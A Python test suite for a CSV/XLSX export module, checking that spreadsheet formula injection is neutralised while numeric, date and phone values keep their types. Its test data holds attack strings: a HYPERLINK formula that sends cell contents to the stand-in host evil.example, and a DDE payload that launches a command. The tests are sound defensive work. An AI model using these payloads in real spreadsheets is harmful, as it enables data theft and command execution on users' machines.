"""Exports that are safe to open in Excel: no formula cells, types kept."""

from __future__ import annotations

import csv
import datetime as dt
import io
import time
import zipfile

import numpy as np
import openpyxl
import pandas as pd
import pytest

from segmentation.activate.export import neutralise_formulas, to_csv_bytes, to_xlsx_bytes, write_file
from segmentation.core.errors import SegmentStudioError

ATTACKS = ['=HYPERLINK("http://evil.example/?d="&A1,"Cliquez")', "+SUM(1,2)", "-2+3", "@SUM(A1)", "\t=1",
           "  =1", "＝1", "＋1", "－1", "＠SUM(A1)", "\r=1", "\n=1", " -12"]
SAFE = ["Élodie", "O'Neil", "a=b", "1+1", "", "'=already", "Zoë Ünal – Société Générale"]


def _frame() -> pd.DataFrame:
    n = len(ATTACKS)
    return pd.DataFrame({
        "name": ATTACKS,
        "safe": (SAFE * n)[:n],
        "amount": np.linspace(-3.5, 1234.25, n),
        "orders": np.arange(-6, n - 6),
        "created": pd.date_range("2024-01-30", periods=n, freq="D"),
        "consent": [True, False] * (n // 2) + [True],
    })


def _xlsx_cells(data: bytes) -> list[list[openpyxl.cell.Cell]]:
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    return [list(row) for row in sheet.iter_rows()]


def _csv_rows(data: bytes, delimiter: str = ",", encoding: str = "utf-8") -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode(encoding), newline=""), delimiter=delimiter))


# --------------------------------------------------------------------------
# neutralise_formulas
# --------------------------------------------------------------------------

def test_neutralise_prefixes_dangerous_text_only() -> None:
    frame = _frame()
    safe = neutralise_formulas(frame)
    assert safe["name"].tolist() == ["'" + v for v in ATTACKS]
    assert safe["safe"].tolist() == frame["safe"].tolist()
    # Numbers stay numbers, even negative ones; only text is prefixed.
    pd.testing.assert_frame_equal(safe.drop(columns=["name"]), frame.drop(columns=["name"]))
    assert frame["name"].tolist() == ATTACKS, "the input frame is not modified"


def test_neutralise_object_columns_with_mixed_values_and_nulls() -> None:
    frame = pd.DataFrame({"mixed": pd.Series(["=1+1", -5, None, 2.5, "-x", np.nan, "ok"], dtype=object)})
    assert neutralise_formulas(frame)["mixed"].tolist()[:5] == ["'=1+1", -5, None, 2.5, "'-x"]
    only_numbers = pd.DataFrame({"n": pd.Series([1, 2], dtype=object)})
    assert neutralise_formulas(only_numbers)["n"].tolist() == [1, 2]


def test_neutralise_categorical_and_header_names() -> None:
    frame = pd.DataFrame({"=cmd|' /C calc'!A0": pd.Categorical(["=1", "a", "=1"]), "@x": [1, 2, 3], "ok": 1})
    safe = neutralise_formulas(frame)
    assert list(safe.columns) == ["'=cmd|' /C calc'!A0", "'@x", "ok"]
    assert safe.iloc[:, 0].tolist() == ["'=1", "a", "'=1"]
    assert list(frame.columns) == ["=cmd|' /C calc'!A0", "@x", "ok"]


def test_neutralise_is_idempotent() -> None:
    once = neutralise_formulas(_frame())
    pd.testing.assert_frame_equal(neutralise_formulas(once), once)


# --------------------------------------------------------------------------
# CSV
# --------------------------------------------------------------------------

def test_csv_default_is_plain_utf8_comma_lf() -> None:
    data = to_csv_bytes(_frame())
    assert not data.startswith(b"\xef\xbb\xbf")
    assert b"\r\n" not in data.replace(b'"\r\n', b"")
    rows = _csv_rows(data)
    assert rows[0] == ["name", "safe", "amount", "orders", "created", "consent"]
    assert [r[0] for r in rows[1:]] == ["'" + v.replace("\r", "\n") for v in ATTACKS]
    assert rows[1][2] == "-3.5" and rows[1][3] == "-6", "numbers are written as numbers, unprefixed"
    assert rows[1][4] == "2024-01-30", "dates are ISO"


def test_csv_excel_french_has_bom_semicolon_decimal_comma() -> None:
    data = to_csv_bytes(pd.DataFrame({"Société": ["Île-de-France", None], "CA": [1234.5, None],
                                      "n": [3, 4], "Créé le": pd.to_datetime(["2024-03-01", None])}),
                        excel_french=True)
    assert data.startswith(b"\xef\xbb\xbf")
    text = data.decode("utf-8-sig")
    assert text == "Société;CA;n;Créé le\nÎle-de-France;1234,5;3;2024-03-01\n;;4;\n"


def test_csv_round_trips_accents_and_quotes() -> None:
    frame = pd.DataFrame({"nom": ["Zoë", "Ünal; \"le\" grand", "ligne 1\r\nligne 2", "€ œ Œ ß 😀"]})
    for french, delimiter in ((False, ","), (True, ";")):
        rows = _csv_rows(to_csv_bytes(frame, excel_french=french), delimiter, "utf-8-sig")
        assert [r[0] for r in rows[1:]] == ["Zoë", "Ünal; \"le\" grand", "ligne 1\nligne 2", "€ œ Œ ß 😀"]


def test_csv_header_is_neutralised() -> None:
    assert to_csv_bytes(pd.DataFrame({"=1+1": [1], "-a": ["b"]})).split(b"\n")[0] == b"'=1+1,'-a"


# --------------------------------------------------------------------------
# XLSX
# --------------------------------------------------------------------------

def test_xlsx_has_no_formula_and_attacks_are_prefixed_text() -> None:
    cells = _xlsx_cells(to_xlsx_bytes(_frame()))
    assert all(cell.data_type != "f" for row in cells for cell in row)
    assert [row[0].value for row in cells[1:]] == ["'" + v.replace("\r", "\n") for v in ATTACKS]
    assert all(row[0].data_type == "s" for row in cells[1:])


def test_xlsx_types_are_kept() -> None:
    frame = _frame()
    cells = _xlsx_cells(to_xlsx_bytes(frame))
    assert [c.value for c in cells[0]] == list(frame.columns)
    assert cells[0][0].font.b, "header is bold"
    first = cells[1]
    assert first[2].data_type == "n" and first[2].value == pytest.approx(-3.5)
    assert first[3].data_type == "n" and first[3].value == -6 and isinstance(first[3].value, int)
    assert first[4].data_type == "d" and first[4].value == dt.datetime(2024, 1, 30)
    assert first[4].number_format == "yyyy-mm-dd"
    assert first[5].data_type == "b" and first[5].value is True
    assert [r[2].value for r in cells[1:]] == pytest.approx(frame["amount"].tolist())


def test_xlsx_nulls_datetimes_and_odd_values() -> None:
    frame = pd.DataFrame({
        "when": pd.to_datetime(["2024-03-01 14:30:05", None, "1850-06-01 00:00:00"]),
        "paris": pd.to_datetime(["2024-03-01 09:00"] * 3).tz_localize("Europe/Paris"),
        "score": [1.5, np.nan, np.inf],
        "count": pd.array([1, None, 3], dtype="Int64"),
        "text": ["a\x00b", None, "x" * 40_000],
        "error_like": ["#N/A", "#DIV/0!", "TRUE"],
    })
    cells = _xlsx_cells(to_xlsx_bytes(frame))
    assert cells[1][0].value == dt.datetime(2024, 3, 1, 14, 30, 5)
    assert cells[1][0].number_format == "yyyy-mm-dd hh:mm:ss"
    assert cells[3][0].value == "1850-06-01 00:00:00", "dates before 1900 cannot be Excel dates"
    assert cells[1][1].value == dt.datetime(2024, 3, 1, 9, 0), "wall-clock time kept"
    assert [row[2].value for row in cells[1:]] == [1.5, None, None]
    assert [row[3].value for row in cells[1:]] == [1, None, 3]
    assert cells[1][4].value == "ab" and len(cells[3][4].value) == 32_767
    assert [(row[5].value, row[5].data_type) for row in cells[1:]] == [("#N/A", "s"), ("#DIV/0!", "s"),
                                                                       ("TRUE", "s")]
    assert [cells[2][i].value for i in (0, 2, 3, 4)] == [None] * 4


def test_xlsx_strings_are_text_cells_even_without_neutralisation(monkeypatch: pytest.MonkeyPatch) -> None:
    import segmentation.activate.export as export

    monkeypatch.setattr(export, "neutralise_formulas", lambda frame: frame.copy())
    data = to_xlsx_bytes(pd.DataFrame({"=SUM(1)": ["=1+1", '=HYPERLINK("x")']}))
    cells = _xlsx_cells(data)
    assert [(c.value, c.data_type) for row in cells for c in row] == [
        ("=SUM(1)", "s"), ("=1+1", "s"), ('=HYPERLINK("x")', "s")]
    sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml


def test_xlsx_header_neutralised_and_sheet_name_cleaned() -> None:
    data = to_xlsx_bytes(pd.DataFrame({"=cmd": ["x"], "Prénom": ["Zoë"]}), sheet_name="Clients: 2024/Q1 [draft]")
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    assert workbook.sheetnames == ["Clients_ 2024_Q1 _draft_"]
    sheet = workbook.active
    assert [c.value for c in sheet[1]] == ["'=cmd", "Prénom"]
    assert sheet["B2"].value == "Zoë"
    assert sheet.freeze_panes == "A2"


def test_xlsx_reads_back_with_pandas() -> None:
    frame = pd.DataFrame({"id": ["C001", "C002"], "CA": [1.25, 2.5], "n": [1, 2]})
    back = pd.read_excel(io.BytesIO(to_xlsx_bytes(frame)), dtype={"id": str})
    pd.testing.assert_frame_equal(back, frame, check_dtype=False)


def test_xlsx_empty_frames() -> None:
    assert _xlsx_cells(to_xlsx_bytes(pd.DataFrame({"a": [], "b": []})))[0][1].value == "b"
    to_xlsx_bytes(pd.DataFrame())


def test_xlsx_100k_rows_is_fast() -> None:
    n = 100_000
    rng = np.random.default_rng(0)
    frame = pd.DataFrame({f"text{i}": rng.choice(["Dupont SA", "Île-de-France", "=1", None], n) for i in range(10)})
    for i in range(5):
        frame[f"num{i}"] = rng.normal(100, 30, n)
    frame["created"] = pd.Timestamp("2020-01-01") + pd.to_timedelta(rng.integers(0, 1500, n), unit="D")
    start = time.perf_counter()
    data = to_xlsx_bytes(frame)
    assert time.perf_counter() - start < 30
    sheet = openpyxl.load_workbook(io.BytesIO(data), read_only=True).active
    assert sheet.max_row == n + 1 and sheet.max_column == 16


# --------------------------------------------------------------------------
# write_file
# --------------------------------------------------------------------------

def test_write_file_by_extension(tmp_path) -> None:
    frame = pd.DataFrame({"nom": ["=Zoë"], "CA": [1.5]})
    assert write_file(frame, tmp_path / "out.CSV") == "csv"
    assert (tmp_path / "out.CSV").read_bytes() == to_csv_bytes(frame)
    assert write_file(frame, str(tmp_path / "out.xlsx")) == "xlsx"
    assert _xlsx_cells((tmp_path / "out.xlsx").read_bytes())[1][0].value == "'=Zoë"
    assert write_file(frame, tmp_path / "fr.csv", excel_french=True) == "csv"
    assert (tmp_path / "fr.csv").read_bytes().startswith(b"\xef\xbb\xbf")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["fr.csv", "out.CSV", "out.xlsx"]


@pytest.mark.parametrize("name", ["out.xls", "out.txt", "out"])
def test_write_file_refuses_other_extensions(tmp_path, name: str) -> None:
    with pytest.raises(SegmentStudioError, match=r"\.csv or \.xlsx"):
        write_file(pd.DataFrame({"a": [1]}), tmp_path / name)
    assert list(tmp_path.iterdir()) == []


# --------------------------------------------------------------------------
# Numbers and phones kept bare, list cells as text
# --------------------------------------------------------------------------

BARE = ["+33612345678", "+33 6 12 34 56 78", "+1 (555) 123-4567", "-12", "-12,5", "+44.20.7946.0958", "0612345678"]
STILL_FORMULAS = ["=1+1", "@cmd", "+SUM(1,2)", "-2+3", "+1+cmd|' /C calc'!A0", "-A1", "+ 1"]


def test_numbers_and_phones_are_spared_but_formulas_are_not() -> None:
    frame = pd.DataFrame({"phone": BARE, "attack": STILL_FORMULAS})
    safe = neutralise_formulas(frame)
    assert safe["phone"].tolist() == BARE
    assert safe["attack"].tolist() == ["'=1+1", "'@cmd", "'+SUM(1,2)", "'-2+3", "'+1+cmd|' /C calc'!A0", "'-A1",
                                       "'+ 1"]


def test_csv_and_xlsx_keep_phones_bare_and_neutralise_formulas() -> None:
    frame = pd.DataFrame({"phone": BARE, "attack": STILL_FORMULAS})
    rows = _csv_rows(to_csv_bytes(frame))
    assert [r[0] for r in rows[1:]] == BARE
    assert [r[1] for r in rows[1:]] == ["'" + v for v in STILL_FORMULAS]
    cells = _xlsx_cells(to_xlsx_bytes(frame))
    assert [(row[0].value, row[0].data_type) for row in cells[1:]] == [(v, "s") for v in BARE]
    assert [row[1].value for row in cells[1:]] == ["'" + v for v in STILL_FORMULAS]


def test_list_cells_are_text_joined_by_semicolon_in_csv_and_xlsx() -> None:
    frame = pd.DataFrame({"id": ["A", "B", "C"],
                          "E-mail (all)": pd.Series([np.array(["a@x.fr", "b@y.com"]), None, ["=1+1"]], dtype=object)})
    rows = _csv_rows(to_csv_bytes(frame))
    assert rows == [["id", "E-mail (all)"], ["A", "a@x.fr; b@y.com"], ["B", ""], ["C", "'=1+1"]]
    cells = _xlsx_cells(to_xlsx_bytes(frame))
    assert [row[1].value for row in cells[1:]] == ["a@x.fr; b@y.com", None, "'=1+1"]
